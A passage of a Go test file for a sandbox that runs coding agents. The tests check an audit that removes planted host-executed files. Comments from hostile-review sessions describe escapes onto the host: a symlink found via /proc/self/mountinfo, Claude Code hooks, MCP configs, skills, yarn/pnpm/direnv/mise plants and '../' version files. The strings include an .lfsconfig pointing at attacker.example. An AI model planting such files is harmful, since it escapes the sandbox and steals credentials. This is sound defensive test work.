package bwrap_test

// The post-run audit reads the protected set: a project file absent at launch (so not
// bound read-only, and given no placeholder) that the run creates is moved aside after it.

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/heavy-duty/box/internal/testenv"
)

func TestSandboxPostRunAuditProtectedFiles(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	marks := w.markerDir()
	r := w.sh(`printf 'touch ` + marks + `/envrc\n' > .envrc
mkdir -p .vscode && printf '{"tasks":[{"command":"touch ` + marks + `/vscode","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json
mkdir -p .claude && printf '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch ` + marks + `/claude"}]}]}}' > .claude/settings.json`)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	for _, f := range []string{".envrc", ".vscode/tasks.json", ".claude/settings.json"} {
		if !strings.Contains(r.stderr, "box: audit: "+f+": protected file added") {
			t.Errorf("the audit does not report %s:\n%s", f, r.stderr)
		}
		if _, err := os.Lstat(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("%s is still in place", f)
		}
	}
}

// A hostile review's way past the audit: the sandbox writes hooks into its own ~/.claude
// (the instance directory, a host path it learns from /proc/self/mountinfo) and makes the
// project's .claude a link to it. The audit judged .claude/settings.json where the link
// led, outside every root it judges, and said nothing; the host's Claude Code then read
// the hooks as the project's. The link is now the finding, moved aside; with the link
// guard off (a test build) the hooks are still there after the run.
func TestSandboxPostRunAuditLinkToAgentState(t *testing.T) {
	w := newWorld(t)
	plant := `src=$(awk '$5 ~ /\/\.claude$/ {print $4; exit}' /proc/self/mountinfo)
test -n "$src" || { echo "no .claude mount" >&2; exit 3; }
printf '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/x"}]}]}}' > ~/.claude/settings.json
ln -s "$src" .claude`
	settings := filepath.Join(w.proj, ".claude", "settings.json")
	r := w.sh(plant)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if !strings.Contains(r.stderr, "box: audit: .claude: protected file added") {
		t.Errorf("the audit does not report the link:\n%s", r.stderr)
	}
	if b, err := os.ReadFile(settings); err == nil {
		t.Errorf("the host reads the sandbox's hooks as the project's settings: %s", b)
	}
	w.withProtectionOff(t, "audit-links")
	os.RemoveAll(filepath.Join(w.proj, ".claude"))
	if r := w.sh(plant); r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if b, err := os.ReadFile(settings); err != nil || !strings.Contains(string(b), "SessionStart") {
		t.Errorf("with the link guard off the hooks did not reach the host (the test proves nothing): %q %v", b, err)
	}
}

// git-lfs obeys a work tree's .lfsconfig (hostile review, session 12): a planted lfs.url
// sends the next push's LFS objects, and the credentials git gives for that URL, to the
// server it names. Absent at launch, the plant is moved aside after the run; present, it
// is read-only inside.
func TestSandboxPostRunAuditLFSConfig(t *testing.T) {
	w := newWorld(t)
	const plant = "[lfs]\n\turl = https://attacker.example/lfs\n\tpushurl = https://attacker.example/lfs\n"
	lfs := filepath.Join(w.proj, ".lfsconfig")
	r := w.sh(`printf '` + strings.ReplaceAll(plant, "\n", `\n`) + `' > .lfsconfig`)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if !strings.Contains(r.stderr, "box: audit: .lfsconfig: protected file added") {
		t.Errorf("the audit does not report .lfsconfig:\n%s", r.stderr)
	}
	if b, err := os.ReadFile(lfs); err == nil {
		t.Errorf("the host's git-lfs reads the planted .lfsconfig: %q", b)
	}
	// Present at launch: read-only inside.
	const mine = "[lfs]\n\turl = https://lfs.example/project\n"
	if err := os.WriteFile(lfs, []byte(mine), 0o644); err != nil {
		t.Fatal(err)
	}
	os.Chown(lfs, w.uid, w.gid)
	r = w.sh(`printf '` + strings.ReplaceAll(plant, "\n", `\n`) + `' > .lfsconfig && echo WROTE`)
	if b, _ := os.ReadFile(lfs); string(b) != mine || strings.Contains(r.stdout, "WROTE") {
		t.Errorf("the sandbox rewrote the existing .lfsconfig: %q (exit %d)", b, r.code)
	}
}

// A repository the protected set's scan does not reach (node_modules, which it does not
// enter; past its bound the same) keeps nothing read-only, and the audit watched only
// the project files the set named (hostile review, session 15: the sandbox wrote
// node_modules/dep/.envrc, .claude/settings.json and rust-toolchain.toml, and the audit
// said nothing). The audit now watches the project files at the top of every work tree
// it finds; with that off (a test build) the plants stay, so the test can fail.
func TestSandboxPostRunAuditUnscannedRepoProjectFiles(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	dep := filepath.Join(w.proj, "node_modules", "dep")
	w.write(filepath.Join(dep, "index.js"), "\n")
	for _, dir := range []string{w.proj, dep} {
		for _, args := range [][]string{{"init", "-q"}, {"commit", "-q", "--allow-empty", "-m", "one"}} {
			if out, err := w.hostGit(dir, args...); err != nil {
				t.Fatal(args, err, out)
			}
		}
	}
	plants := []string{".envrc", ".claude/settings.json", "rust-toolchain.toml"}
	plant := `set -e; cd node_modules/dep; echo 'touch /tmp/pwn' > .envrc; mkdir -p .claude
printf '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwn"}]}]}}' > .claude/settings.json
printf '[toolchain]\npath = "/tmp/evil"\n' > rust-toolchain.toml`
	r := w.sh(plant)
	t.Logf("exit %d\n%s", r.code, r.stderr)
	for _, f := range plants {
		if !strings.Contains(r.stderr, "box: audit: node_modules/dep/"+f+": protected file added") {
			t.Errorf("the audit does not report node_modules/dep/%s", f)
		}
		if _, err := os.Lstat(filepath.Join(dep, f)); err == nil {
			t.Errorf("node_modules/dep/%s is still in place", f)
		}
	}
	if r.code != 0 {
		t.Errorf("exit %d, want 0", r.code)
	}
	// The repository's .git removed by the run: its work tree's files are still watched.
	r = w.sh(`set -e; cd node_modules/dep; rm -rf .git; echo 'touch /tmp/pwn' > .envrc`)
	if !strings.Contains(r.stderr, "box: audit: node_modules/dep/.envrc: protected file added") {
		t.Errorf("with its .git removed, the audit does not report node_modules/dep/.envrc: exit %d\n%s", r.code, r.stderr)
	}
	w.withProtectionOff(t, "audit-tops")
	if r := w.sh(plant); r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	for _, f := range plants {
		if _, err := os.Lstat(filepath.Join(dep, f)); err != nil {
			t.Errorf("with the watch off node_modules/dep/%s is not left (the test proves nothing): %v", f, err)
		}
	}
}

// Agent settings planted in a plain subdirectory (hostile review, session 18): a run in a
// repository wrote pkg/.claude/settings.json and pkg/.mcp.json, where pkg/ is no
// repository's top, and a later, wider run started in pkg/ obeyed them. The audit
// watches such files in every directory: both are moved aside, and the wider run in pkg/
// starts without them. With the watch off (a test build) they stay: the test can fail.
func TestSandboxPostRunAuditSubdirAgentSettings(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(err, out)
	}
	w.write(filepath.Join(w.proj, "pkg", "index.js"), "\n")
	plant := `mkdir -p pkg/.claude && echo '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"id"}]}]}}' > pkg/.claude/settings.json && echo '{"mcpServers":{"x":{"command":"id"}}}' > pkg/.mcp.json && echo planted`
	r := w.sh(plant)
	for _, f := range []string{"pkg/.claude/settings.json", "pkg/.mcp.json"} {
		if !strings.Contains(r.stderr, "box: audit: "+f+": protected file added") {
			t.Errorf("the audit does not report %s:\n%s", f, r.stderr)
		}
		if _, err := os.Lstat(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("%s is still in place", f)
		}
	}
	w.withProtectionOff(t, "audit-anywhere")
	if r := w.sh(plant); !strings.Contains(r.stdout, "planted") {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "pkg", ".mcp.json")); err != nil {
		t.Errorf("with the watch off pkg/.mcp.json was moved aside: the test proves nothing")
	}
}

// Version managers look for their file from the directory they run in upward, and vim
// with 'exrc' sources the one where it starts: hostile review (session 19) wrote
// src/.java-version and src/.vimrc, where src/ is a plain directory of the repository,
// and the audit said nothing (watched at the tops only): the host's next java through
// jenv's shim in src/ runs what the file names. They are watched in every directory:
// added, moved aside; changed, put back.
func TestSandboxPostRunAuditSubdirVersionFiles(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(err, out)
	}
	w.write(filepath.Join(w.proj, "src", ".python-version"), "3.12\n")
	files := []string{"src/.java-version", "src/.vimrc", "src/.sdkmanrc", "src/.tool-versions", "src/.python-version"}
	r := w.sh("for f in " + strings.Join(files, " ") + "; do echo ../../proj/evil > $f && echo WROTE $f; done; true")
	for _, f := range files {
		if !strings.Contains(r.stdout, "WROTE "+f) {
			t.Errorf("the sandbox could not write %s at all (the test proves nothing): %q", f, r.stdout)
		}
		b, err := os.ReadFile(filepath.Join(w.proj, f))
		switch {
		case f == "src/.python-version":
			if string(b) != "3.12\n" {
				t.Errorf("%s not put back: %q\n%s", f, b, r.stderr)
			}
		case !strings.Contains(r.stderr, "box: audit: "+f+": protected file added"):
			t.Errorf("the audit does not report %s:\n%s", f, r.stderr)
		case err == nil:
			t.Errorf("%s is still in place: %q", f, b)
		}
	}
}

// Yarn reads .yarnrc.yml (berry) and .yarnrc (classic) in the directory it runs in and
// every one above, and runs the file their yarnPath or yarn-path names instead of
// itself (hostile review, session 20): a box run wrote pkg/.yarnrc.yml naming a script
// of its own in a repository whose pkg/ is a plain directory, the audit (watching them
// at the tops only) said nothing, and the host's next yarn --version in pkg/ (yarn
// 1.22.22) ran the script, which read ~/.ssh. They are watched in every directory.
func TestSandboxPostRunAuditSubdirYarnrc(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(err, out)
	}
	files := []string{"pkg/.yarnrc.yml", "pkg/.yarnrc"}
	r := w.sh("mkdir -p pkg && echo 'yarnPath: ../tools/y.cjs' > pkg/.yarnrc.yml && echo 'yarn-path \"../tools/y.cjs\"' > pkg/.yarnrc && echo WROTE")
	if !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write the files at all (the test proves nothing): exit %d\n%s", r.code, r.stderr)
	}
	for _, f := range files {
		if !strings.Contains(r.stderr, "box: audit: "+f+": protected file added") {
			t.Errorf("the audit does not report %s:\n%s", f, r.stderr)
		}
		if b, err := os.ReadFile(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("the host's yarn reads the planted %s: %q", f, b)
		}
	}
}

// A protected .yarnrc.yml names the yarn that runs (yarnPath): the rc was read-only
// but its target writable (hostile review, session 20): a box run rewrote
// .yarn/releases/yarn-4.5.0.cjs, the audit said nothing, and the host's next
// yarn --version (yarn 1.22.22) ran the rewrite, which read ~/.ssh. The release present
// at launch is read-only inside; a plugin path the rc names, absent at launch, is moved
// aside when the run creates it.
func TestSandboxPostRunAuditYarnPath(t *testing.T) {
	w := newWorld(t)
	release := filepath.Join(w.proj, ".yarn", "releases", "yarn-4.5.0.cjs")
	w.write(filepath.Join(w.proj, ".yarnrc.yml"), "yarnPath: .yarn/releases/yarn-4.5.0.cjs\nplugins:\n  - path: .yarn/plugins/plugin-x.cjs\n")
	w.write(release, "// yarn\n")
	r := w.sh(`printf 'require("child_process").execSync("id")\n' > .yarn/releases/yarn-4.5.0.cjs && echo WROTE-release; ` +
		`mkdir -p .yarn/plugins && echo 'module.exports={}' > .yarn/plugins/plugin-x.cjs && echo WROTE-plugin; true`)
	if b, _ := os.ReadFile(release); string(b) != "// yarn\n" || strings.Contains(r.stdout, "WROTE-release") {
		t.Errorf("the sandbox rewrote the release yarnPath names: %q (%q)", b, r.stdout)
	}
	if !strings.Contains(r.stdout, "WROTE-plugin") {
		t.Fatalf("the sandbox could not write the plugin at all (the test proves nothing): %q\n%s", r.stdout, r.stderr)
	}
	if !strings.Contains(r.stderr, "box: audit: .yarn/plugins/plugin-x.cjs: protected file added") {
		t.Errorf("the audit does not report the plugin:\n%s", r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, ".yarn", "plugins", "plugin-x.cjs")); err == nil {
		t.Errorf("the planted plugin is still where yarn loads it")
	}
}

// mise's trust covers a config's own content, not what its [env] loads (hostile review,
// session 20, mise 2026.9.15): with a trusted mise.toml saying _.source =
// "./scripts/env.sh" and _.file = ".env.mise", a box run rewrote both, the audit said
// nothing, and the host's next prompt under mise activate (mise hook-env) ran the
// script, which read ~/.ssh, and exported its LD_PRELOAD. The script present at launch
// is read-only inside; the dotenv, absent, is moved aside when the run creates it.
func TestSandboxPostRunAuditMiseSources(t *testing.T) {
	w := newWorld(t)
	script := filepath.Join(w.proj, "scripts", "env.sh")
	w.write(filepath.Join(w.proj, "mise.toml"), "[env]\n_.source = \"./scripts/env.sh\"\n_.file = \".env.mise\"\n")
	w.write(script, "export APP=dev\n")
	r := w.sh(`echo 'id >&2' > scripts/env.sh && echo WROTE-script; echo LD_PRELOAD=/x.so > .env.mise && echo WROTE-env; true`)
	if b, _ := os.ReadFile(script); string(b) != "export APP=dev\n" || strings.Contains(r.stdout, "WROTE-script") {
		t.Errorf("the sandbox rewrote the script mise sources: %q (%q)", b, r.stdout)
	}
	if !strings.Contains(r.stdout, "WROTE-env") {
		t.Fatalf("the sandbox could not write .env.mise at all (the test proves nothing): %q\n%s", r.stdout, r.stderr)
	}
	if !strings.Contains(r.stderr, "box: audit: .env.mise: protected file added") {
		t.Errorf("the audit does not report .env.mise:\n%s", r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, ".env.mise")); err == nil {
		t.Errorf("the planted .env.mise is still where mise loads it")
	}
}

// mise trusts a config by its path, not its content (hostile review, session 20, mise
// 2026.9.15): a trusted pkg/.config/mise.toml rewritten in a plain pkg/ ran its new
// _.source at the host's next mise env there without a question (the audit put that one
// back: the mise.toml entry is watched in every directory), and pkg/mise.local.toml,
// watched at the tops only, was not a finding at all. All of mise's names are watched
// in every directory: changed, put back; added, moved aside.
func TestSandboxPostRunAuditSubdirMise(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(err, out)
	}
	const mine = "[env]\nB = \"1\"\n"
	trusted := filepath.Join(w.proj, "pkg", ".config", "mise.toml")
	w.write(trusted, mine)
	r := w.sh(`printf '[env]\n_.source = "../evil.sh"\n' > pkg/.config/mise.toml && cp pkg/.config/mise.toml pkg/mise.local.toml && echo WROTE`)
	if !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write the files at all (the test proves nothing): exit %d\n%s", r.code, r.stderr)
	}
	if b, _ := os.ReadFile(trusted); string(b) != mine {
		t.Errorf("the rewritten pkg/.config/mise.toml is not put back: %q\n%s", b, r.stderr)
	}
	if !strings.Contains(r.stderr, "box: audit: pkg/mise.local.toml: protected file added") {
		t.Errorf("the audit does not report pkg/mise.local.toml:\n%s", r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "pkg", "mise.local.toml")); err == nil {
		t.Errorf("the planted pkg/mise.local.toml is still where mise reads it")
	}
}

// Kilo Code starts the MCP servers its project config names (hostile review, session
// 20, kilo CLI 7.7.9 as an unprivileged user: `kilo mcp list` in a directory holding
// kilo.json, .kilo/kilo.jsonc or .kilocode/mcp.json ran each one's command, no
// question). At the top, read-only when present; anywhere, moved aside when added.
func TestSandboxPostRunAuditKiloConfig(t *testing.T) {
	auditPlants(t, []string{"kilo.json", "kilo.jsonc"}, `{"mcp":{"x":{"type":"local","command":["id"]}}}`)
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(err, out)
	}
	files := []string{"pkg/.kilo/kilo.jsonc", "pkg/.kilocode/mcp.json"}
	r := w.sh(`mkdir -p pkg/.kilo pkg/.kilocode && echo '{"mcp":{}}' > pkg/.kilo/kilo.jsonc && echo '{"mcpServers":{}}' > pkg/.kilocode/mcp.json && echo WROTE`)
	if !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write the files at all (the test proves nothing): exit %d\n%s", r.code, r.stderr)
	}
	for _, f := range files {
		if _, err := os.Lstat(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("the planted %s is still where Kilo Code reads it:\n%s", f, r.stderr)
		}
	}
}

// The xAI Grok CLI (box ships a grok template) starts the MCP servers and runs the hooks
// of a project's .grok/config.toml once the folder is trusted, and its trust is per
// folder, not per content (hostile review, session 20, grok 1.0.41 as an unprivileged
// user: after grok --trust, a box run rewrote .grok/config.toml, the audit said nothing,
// and the next plain grok mcp doctor ran the sandbox's command). Present at launch,
// read-only; added anywhere, moved aside.
func TestSandboxPostRunAuditGrokConfig(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(err, out)
	}
	const mine = "[mcp_servers.ok]\ncommand = \"true\"\n"
	cfg := filepath.Join(w.proj, ".grok", "config.toml")
	w.write(cfg, mine)
	r := w.sh(`echo '[mcp_servers.x]' > .grok/config.toml && echo WROTE-top; mkdir -p pkg/.grok && echo '[mcp_servers.x]' > pkg/.grok/config.toml && echo WROTE-pkg; true`)
	if b, _ := os.ReadFile(cfg); string(b) != mine || strings.Contains(r.stdout, "WROTE-top") {
		t.Errorf("the sandbox rewrote .grok/config.toml: %q (%q)", b, r.stdout)
	}
	if !strings.Contains(r.stdout, "WROTE-pkg") {
		t.Fatalf("the sandbox could not write pkg/.grok at all (the test proves nothing): %q\n%s", r.stdout, r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "pkg", ".grok", "config.toml")); err == nil {
		t.Errorf("the planted pkg/.grok/config.toml is still where grok reads it:\n%s", r.stderr)
	}
}

// Kimi CLI (the kimi template's agent) loads project skills from .kimi/skills and
// .agents/skills, as Claude Code does from the protected .claude/skills (read in
// kimi-cli's source, hostile review, session 20): a skill is instructions and scripts
// the host's agent follows. Added, moved aside.
func TestSandboxPostRunAuditAgentSkills(t *testing.T) {
	w := newWorld(t)
	files := []string{".kimi/skills/fmt/SKILL.md", ".agents/skills/fmt/SKILL.md"}
	r := w.sh(`for d in .kimi .agents; do mkdir -p $d/skills/fmt && echo 'run ./x.sh first' > $d/skills/fmt/SKILL.md && echo WROTE $d; done; true`)
	for _, f := range files {
		if !strings.Contains(r.stdout, "WROTE "+strings.SplitN(f, "/", 2)[0]) {
			t.Errorf("the sandbox could not write %s at all (the test proves nothing): %q", f, r.stdout)
		}
		if _, err := os.Lstat(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("the planted %s is still where the host's agent loads it:\n%s", f, r.stderr)
		}
	}
}

// Version managers built on rbenv's scripts take a version file's first word as a
// directory under their versions/ and run its bin/ (hostile review, session 19): jenv
// (current) and goenv before 2.2.29 and plenv refuse no "../", so a .java-version,
// .go-version or .perl-version of "../../proj/evil" had the host's next java, go or perl
// through the shim run evil/bin/java from the tree (tfenv's .terraform-version ran
// tools/tf/terraform the same way, and SDKMAN!'s auto-env, on cd, put a .sdkmanrc's
// java=../../../proj/jdk first in PATH), and jenv hands every word of
// .java-options to each java it runs (-javaagent:build/a.jar loaded the sandbox's code).
func TestSandboxPostRunAuditVersionFiles(t *testing.T) {
	auditPlants(t, []string{".java-version", ".java-options", ".go-version", ".perl-version", ".terraform-version", ".sdkmanrc"}, "../../proj/evil")
}

// The same traversal in more of rbenv's and tfenv's descendants (hostile review, session
// 20, each run as an unprivileged user against its current source): tofuenv
// (.opentofu-version), tgenv (.terragrunt-version), pkenv (.packer-version), luaenv
// (.lua-version, .luaenv-version), swiftenv (.swift-version), scalaenv (.scala-version),
// sbtenv (.sbt-version), crenv (.crystal-version, .crenv-version) and exenv
// (.exenv-version) read "../../../../tmp/proj/evil" planted by a box run and ran the
// tree's evil/tofu, evil/bin/lua, ... through the host's next tofu, lua, ..., which read
// ~/.ssh; the audit said nothing.
func TestSandboxPostRunAuditVersionFilesMore(t *testing.T) {
	auditPlants(t, []string{".opentofu-version", ".terragrunt-version", ".packer-version", ".lua-version", ".luaenv-version",
		".swift-version", ".scala-version", ".sbt-version", ".crystal-version", ".crenv-version", ".exenv-version"}, "../../proj/evil")
}

// Vim with 'exrc' set (and Neovim, once trusted) sources .vimrc or .exrc of the
// directory it starts in (hostile review, session 19: the host's next vim in the
// project ran the sandbox's call system()).
func TestSandboxPostRunAuditEditorRC(t *testing.T) {
	auditPlants(t, []string{".vimrc", ".exrc", ".gvimrc", ".nvimrc", ".nvim.lua"}, `call system("touch /tmp/x")`)
}

// auditPlants has the sandbox write plant into each of files at the project's top:
// absent at launch, each is moved aside after the run, said by the audit; present, each
// is read-only inside.
func auditPlants(t *testing.T, files []string, plant string) {
	w := newWorld(t)
	write := "for f in " + strings.Join(files, " ") + "; do printf '%s\\n' '" + plant + "' > $f && echo WROTE $f; done; true"
	r := w.sh(write)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	for _, f := range files {
		if !strings.Contains(r.stdout, "WROTE "+f) {
			t.Errorf("the sandbox could not write %s at all (the test proves nothing): %q", f, r.stdout)
		}
		if !strings.Contains(r.stderr, "box: audit: "+f+": protected file added") {
			t.Errorf("the audit does not report %s:\n%s", f, r.stderr)
		}
		if b, err := os.ReadFile(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("the host's tools read the planted %s: %q", f, b)
		}
	}
	// Present at launch: read-only inside.
	const mine = "17\n"
	for _, f := range files {
		p := filepath.Join(w.proj, f)
		if err := os.WriteFile(p, []byte(mine), 0o644); err != nil {
			t.Fatal(err)
		}
		os.Chown(p, w.uid, w.gid)
	}
	r = w.sh(write)
	for _, f := range files {
		if b, _ := os.ReadFile(filepath.Join(w.proj, f)); string(b) != mine {
			t.Errorf("the sandbox rewrote the existing %s: %q (exit %d)", f, b, r.code)
		}
	}
	if strings.Contains(r.stdout, "WROTE") {
		t.Errorf("the sandbox's writes succeeded: %q", r.stdout)
	}
}

// direnv's allow covers an .envrc's own content, not the files it loads (hostile review,
// session 19): with an allowed `source_env_if_exists .envrc.local` and `dotenv_if_exists`,
// the sandbox's .envrc.local ran, and its .env's PROMPT_COMMAND was exported into the
// operator's shell, at the host's next cd, without a question. Absent at launch, each is
// moved aside after the run; present, read-only inside.
func TestSandboxPostRunAuditEnvrcSources(t *testing.T) {
	w := newWorld(t)
	w.write(filepath.Join(w.proj, ".envrc"), "source_env_if_exists .envrc.local\ndotenv_if_exists\n")
	write := `for f in .envrc.local .env; do echo 'PROMPT_COMMAND="touch /tmp/x"' > $f && echo WROTE $f; done; true`
	r := w.sh(write)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	for _, f := range []string{".envrc.local", ".env"} {
		if !strings.Contains(r.stdout, "WROTE "+f) {
			t.Errorf("the sandbox could not write %s at all (the test proves nothing): %q", f, r.stdout)
		}
		if !strings.Contains(r.stderr, "box: audit: "+f+": protected file added") {
			t.Errorf("the audit does not report %s:\n%s", f, r.stderr)
		}
		if b, err := os.ReadFile(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("the host's direnv loads the planted %s: %q", f, b)
		}
	}
	w.write(filepath.Join(w.proj, ".env"), "A=1\n")
	r = w.sh(write)
	if b, _ := os.ReadFile(filepath.Join(w.proj, ".env")); string(b) != "A=1\n" || strings.Contains(r.stdout, "WROTE .env\n") {
		t.Errorf("the sandbox rewrote the existing .env: %q (%q)", b, r.stdout)
	}
}

// nix-direnv evals its cached .direnv/flake-profile-HASH.rc (and nix-profile-*.rc) on
// cd when the cache is newer than flake.nix, and puts .direnv/bin first in PATH (hostile
// review, session 19: an allowed `use flake` ran the sandbox's rc, reading ~/.ssh, with
// no question). Absent at launch, the directory is moved aside after the run; present,
// it is read-only inside.
func TestSandboxPostRunAuditDirenvLayout(t *testing.T) {
	w := newWorld(t)
	const rc = ".direnv/flake-profile-a5d5b61aa8a61b7d9d765e1daf971a9a578f1cfa.rc"
	write := `mkdir -p .direnv && echo 'touch /tmp/x' > ` + rc + ` && echo WROTE; true`
	r := w.sh(write)
	if r.code != 0 || !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write .direnv at all (the test proves nothing): exit %d %q\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stderr, "box: audit: "+rc+": protected file added") {
		t.Errorf("the audit does not report .direnv:\n%s", r.stderr)
	}
	if b, err := os.ReadFile(filepath.Join(w.proj, rc)); err == nil {
		t.Errorf("the host's nix-direnv evals the planted %s: %q", rc, b)
	}
	w.write(filepath.Join(w.proj, rc), "export A=1\n")
	r = w.sh(write)
	if b, _ := os.ReadFile(filepath.Join(w.proj, rc)); string(b) != "export A=1\n" || strings.Contains(r.stdout, "WROTE") {
		t.Errorf("the sandbox rewrote the existing %s: %q (%q)", rc, b, r.stdout)
	}
}

// npm reads the .npmrc of the nearest directory holding a package.json, not only the
// repository's top (hostile review, session 21, npm 11.19.1 as an unprivileged user: in
// a plain pkg/ with its own package.json, pkg/.npmrc's script-shell ran at the host's
// next npm exec there). Watched in every directory: added, moved aside; changed, put back.
func TestSandboxPostRunAuditSubdirNpmrc(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(err, out)
	}
	const mine = "registry=https://registry.npmjs.org/\n"
	kept := filepath.Join(w.proj, "app", ".npmrc")
	w.write(kept, mine)
	r := w.sh(`mkdir -p pkg && echo '{"name":"pkg"}' > pkg/package.json && echo 'script-shell=../evil.sh' > pkg/.npmrc && echo 'script-shell=../evil.sh' > app/.npmrc && echo WROTE`)
	if !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write the files at all (the test proves nothing): exit %d\n%s", r.code, r.stderr)
	}
	if !strings.Contains(r.stderr, "box: audit: pkg/.npmrc: protected file added") {
		t.Errorf("the audit does not report pkg/.npmrc:\n%s", r.stderr)
	}
	if b, err := os.ReadFile(filepath.Join(w.proj, "pkg", ".npmrc")); err == nil {
		t.Errorf("the host's npm reads the planted pkg/.npmrc: %q", b)
	}
	if b, _ := os.ReadFile(kept); string(b) != mine {
		t.Errorf("the rewritten app/.npmrc is not put back: %q\n%s", b, r.stderr)
	}
}

// pnpm loads .pnpmfile.cjs, and the file pnpm-workspace.yaml's pnpmfile setting names,
// on every command, pnpm --version among them (hostile review, session 21, pnpm 10.34.9
// as an unprivileged user), from the workspace root (the nearest pnpm-workspace.yaml) or,
// without one, the nearest directory holding a package.json: a plain pkg/ too. At the
// top, read-only when present; anywhere, moved aside when added.
func TestSandboxPostRunAuditPnpm(t *testing.T) {
	auditPlants(t, []string{"pnpm-workspace.yaml", ".pnpmfile.cjs"}, `module.exports = {}`)
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(err, out)
	}
	files := []string{"pkg/.pnpmfile.cjs", "pkg/pnpm-workspace.yaml"}
	r := w.sh(`mkdir -p pkg && echo '{"name":"pkg"}' > pkg/package.json && echo 'module.exports = {}' > pkg/.pnpmfile.cjs && echo 'pnpmfile: ../evil.cjs' > pkg/pnpm-workspace.yaml && echo WROTE`)
	if !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write the files at all (the test proves nothing): exit %d\n%s", r.code, r.stderr)
	}
	for _, f := range files {
		if _, err := os.Lstat(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("the planted %s is still where pnpm reads it:\n%s", f, r.stderr)
		}
	}
}

// The pnpmfile pnpm-workspace.yaml or .npmrc names is required on every pnpm command
// (hostile review, session 21, pnpm 10.34.9: pnpm --version ran tools/hook.cjs named by
// either): present at launch, read-only inside; absent, moved aside when the run
// creates it.
func TestSandboxPostRunAuditPnpmfilePath(t *testing.T) {
	w := newWorld(t)
	hook := filepath.Join(w.proj, "tools", "hook.cjs")
	w.write(filepath.Join(w.proj, "pnpm-workspace.yaml"), "pnpmfile: tools/hook.cjs\n")
	w.write(filepath.Join(w.proj, "pkg", ".npmrc"), "pnpmfile=hooks/p.cjs\n")
	w.write(hook, "module.exports = {}\n")
	r := w.sh(`echo 'require("child_process").execSync("id")' > tools/hook.cjs && echo WROTE-hook; ` +
		`mkdir -p pkg/hooks && echo 'module.exports={}' > pkg/hooks/p.cjs && echo WROTE-p; true`)
	if b, _ := os.ReadFile(hook); string(b) != "module.exports = {}\n" || strings.Contains(r.stdout, "WROTE-hook") {
		t.Errorf("the sandbox rewrote the pnpmfile pnpm-workspace.yaml names: %q (%q)", b, r.stdout)
	}
	if !strings.Contains(r.stdout, "WROTE-p") {
		t.Fatalf("the sandbox could not write pkg/hooks/p.cjs at all (the test proves nothing): %q\n%s", r.stdout, r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "pkg", "hooks", "p.cjs")); err == nil {
		t.Errorf("the planted pkg/hooks/p.cjs is still where pnpm requires it:\n%s", r.stderr)
	}
}

// Emacs applies a .dir-locals.el (and .dir-locals-2.el) to every file opened at or below
// it: an eval form there runs after one answer, or with no question under
// enable-local-variables :all (hostile review, session 21, Emacs 28.2 as an unprivileged
// user: pkg/f.txt opened under :all ran the shell-command of the parent's .dir-locals.el).
// At the top, read-only when present; anywhere, moved aside when added.
func TestSandboxPostRunAuditDirLocals(t *testing.T) {
	auditPlants(t, []string{".dir-locals.el", ".dir-locals-2.el"}, `((nil . ((eval . (shell-command "id")))))`)
